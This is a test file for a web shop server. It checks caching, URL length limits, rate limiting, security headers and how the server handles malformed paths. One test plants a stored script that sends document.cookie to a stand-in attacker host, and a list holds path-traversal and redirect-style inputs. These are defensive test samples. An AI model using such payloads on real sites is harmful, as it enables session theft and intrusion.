import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildProduct } from '../../support/builders/build-product.ts';
import { rawCall } from '../../support/raw-http.ts';
import { startServerProcess, type ServerProcess } from '../../support/server-process.ts';
import { startShop, type TestShop } from '../../support/shop.ts';

const PAYPAL = { PAYPAL_CLIENT_ID: 'client', PAYPAL_CLIENT_SECRET: 'secret', PAYPAL_WEBHOOK_ID: 'WH-1' };
const BUDGET = 60;
let shop: TestShop;
let server: ServerProcess;
let product: number;

/** The built shop with a real PayPal, a budget of pages and an https address. */
beforeAll(async () => {
  shop = await startShop();
  product = await buildProduct(shop.ctx());
  server = await startServerProcess({
    dataDir: shop.dataDir,
    env: {
      ...shop.env,
      PUBLIC_URL: 'https://martyx.example',
      PAGE_BUDGET: String(BUDGET),
      TRUST_PROXY: '127.0.0.1',
      ...PAYPAL,
    },
  });
});
afterAll(async () => {
  await server.end('SIGTERM');
  await shop.close();
});

let network = 0;
/** As a visitor from a network of her own, unless one is named. */
const get = (path: string, headers: Record<string, string> = {}) =>
  fetch(server.url + path, {
    redirect: 'manual',
    headers: {
      accept: 'text/html',
      'accept-language': 'en',
      'x-forwarded-for': `203.0.113.${(network += 1)}`,
      ...headers,
    },
  });

const policyOf = async (path: string): Promise<string> =>
  (await get(path)).headers.get('content-security-policy') ?? '';

describe('a parameter that a page does not read', () => {
  it.each(['/', '/products', '/products?sort=price'])(
    'makes no other page and stays out of the HTML of %s',
    async (path) => {
      const plain = await get(path);
      const unknown = Array.from({ length: 300 }, (_, n) => `unread${n}=v`).join('&');
      const more = await get(`${path}${path.includes('?') ? '&' : '?'}${unknown}`);
      expect([plain.status, more.status]).toEqual([200, 200]);
      expect(plain.headers.get('etag')).toMatch(/^"/);
      expect(more.headers.get('etag')).toBe(plain.headers.get('etag'));
      expect(await more.text()).not.toContain('unread');
    },
  );

  it('neither does another order, a repetition or an empty one', async () => {
    const tag = async (query: string) => (await get(`/products${query}`)).headers.get('etag');
    expect(await tag('?stock=1&sort=price&sort=price&search=&tab=x')).toBe(await tag('?sort=price&stock=1'));
  });

  it('stays out of pages that are made for one visitor, too', async () => {
    const page = await get('/contact?unread=leaked');
    expect([page.status, (await page.text()).includes('leaked')]).toEqual([200, false]);
  });
});

describe('an address that is too long', () => {
  it('is refused in the language of the visitor on a page of its own', async () => {
    const query = Array.from({ length: 1200 }, (_, n) => `p${n}=v`).join('&');
    const answer = await get(`/products?${query}`, { 'accept-language': 'sk' });
    const html = await answer.text();
    expect([answer.status, answer.headers.get('cache-control')]).toEqual([400, 'no-store']);
    expect(html).toContain('Táto adresa je príliš dlhá.');
    expect(html.length).toBeLessThan(8000);
  });
});

describe('pages that are made anew', () => {
  it('are bounded for each network: 429 with Retry-After past it, while kept pages and other networks are served', async () => {
    const mine = { 'x-forwarded-for': '198.51.100.7' };
    await get('/products');
    const ask = () => get('/about', mine);
    // Twice, should a minute of the clock begin in between.
    const answers = await Promise.all(Array.from({ length: 2 * BUDGET + 2 }, ask));
    const refused = answers.find(({ status }) => status === 429)!;
    expect([refused.status, refused.headers.get('retry-after')]).toEqual([429, '60']);
    expect(await refused.text()).toContain('Too many pages were opened from your network.');
    expect([(await get('/products', mine)).status, (await get('/about')).status]).toEqual([200, 200]);
  });
});

describe('the policy of a page', () => {
  it('allows no script that came with a stored text', async () => {
    const script = "fetch('//evil.example/'+document.cookie)";
    await shop
      .ctx()
      .sql('UPDATE product_translation SET description = $1 WHERE product_id = $2', [
        `<p>Text</p><script>${script}</script>`,
        product,
      ]);
    const page = await get(`/products/${product}`);
    const policy = page.headers.get('content-security-policy')!;
    expect(await page.text()).toContain(`<script>${script}</script>`);
    expect(policy).toMatch(/script-src [^;]*'sha256-/);
    expect(policy).not.toContain(createHash('sha256').update(script).digest('base64'));
    expect(policy).not.toContain('nonce-');
  });

  it('lets PayPal in only where something is paid', async () => {
    for (const path of [
      '/',
      '/products',
      `/products/${product}`,
      '/cart',
      '/account',
      '/login',
      '/nothing',
      '/admin',
    ]) {
      expect(await policyOf(path), path).not.toContain('paypal');
    }
    for (const path of ['/checkout', '/order/0197a1b2-0000-7000-8000-000000000009']) {
      expect(await policyOf(path), path).toContain('https://*.paypal.com');
    }
  });

  it('comes with HSTS on every answer of a shop at an https address', async () => {
    for (const path of ['/', '/checkout', '/nothing', '/api/products', '/robots.txt', '/readyz']) {
      expect((await get(path)).headers.get('strict-transport-security'), path).toMatch(/^max-age=\d{8}/);
    }
  });
});

const ODD = [
  '/%09/x/..',
  '/%09',
  '/%0a/..',
  '/%00',
  '/%c0%ae%c0%ae/',
  '/%ed%a0%80',
  '/%zz',
  '/a\\b',
  '/\\evil.com/',
  '/..%2f',
  '/%2e%2e/x',
  '//evil//',
  '//',
  '///?lang=de',
  '//\\',
  '/\\',
  '//[',
  '//a:b/',
  '//%5b/',
  '//%09/..',
  'http://evil.test/products',
  'http://[::1',
  '*',
  '/products/%09',
  '/products/1%09/..',
  '/%5c%5cevil/..',
  '/gallery?category=%00',
  '/products?search=%00',
  '/products?a.x=%00',
  '/order/%00?key=%00',
  '/wishlist/shared?token=%00',
  '/products?after=%ff',
  '/?lang=%zz',
  '/downloads/%00/x',
  '/media/%00',
  '/assets/%2e%2e/x',
  '/graphql?query=%00',
];

describe('an odd address', () => {
  it.each(ODD)('%s is no fault of the shop', async (path) => {
    for (const method of ['GET', 'HEAD', 'OPTIONS', 'PROPFIND']) {
      const head = `${method} ${path} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\nX-Forwarded-For: 203.0.114.${ODD.indexOf(path)}\r\nConnection: close\r\n\r\n`;
      const { status } = await rawCall(server.url, head);
      expect(status, `${method} ${path}`).toBeLessThan(500);
    }
  });
});
